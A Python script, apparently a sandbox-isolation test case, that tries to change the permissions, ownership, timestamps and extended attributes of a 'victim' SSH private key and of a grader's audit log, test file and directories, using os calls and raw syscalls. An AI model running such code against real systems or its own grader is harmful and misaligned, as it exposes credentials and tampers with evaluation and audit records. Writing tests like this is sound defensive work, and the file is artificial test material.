"""Change what is no content of the grader's files: mode, owner, times, attributes, flags. These need no open file.

Shows: the files are changed.
"""

import os
from contextlib import suppress

from kit import ctypes, libc, syscall

paths = [
    f"@VICTIM@/{name}"
    for name in ("home/.ssh/id_rsa", "home/.ssh", "grader/audit.log", "grader/tests.json", "grader", "home")
]
for path in paths:
    with suppress(OSError):
        os.chmod(path, 0o777)
    with suppress(OSError):
        os.utime(path, (1, 1))
    with suppress(OSError):
        os.setxattr(path, "user.lydite-attack", b"x")
    with suppress(OSError):
        os.chown(path, os.getuid(), os.getgid())
    with suppress(OSError):
        os.chmod(os.path.basename(path), 0o777, dir_fd=os.open(os.path.dirname(path), os.O_PATH))
    name = path.encode()
    syscall("fchmodat2", -100, name, 0o777, 0x100)
    syscall("fchmodat", -100, name, 0o777)
    syscall("setxattrat", -100, name, 0, b"user.attack", ctypes.create_string_buffer(32), 16)
    syscall("utimensat", -100, name, 0, 0)
    syscall("file_setattr", -100, name, ctypes.create_string_buffer(32), 24, 0)
    libc.lchown(name, os.getuid(), os.getgid())
    libc.lutimes(name, None)
